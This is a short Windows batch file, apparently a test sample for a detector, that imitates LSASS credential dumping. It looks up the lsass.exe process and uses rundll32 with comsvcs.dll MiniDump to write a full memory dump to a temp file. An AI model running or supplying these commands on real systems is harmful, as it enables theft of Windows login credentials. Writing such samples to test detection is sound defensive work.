@echo off
rem exhume test sample: inert text shaped like an LSASS dump batch file
for /f "tokens=2" %%i in (tasklist /fi "imagename eq lsass.exe" /nh) do set P=%%i
rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump %P% C:\Windows\Temp\exh.dmp full
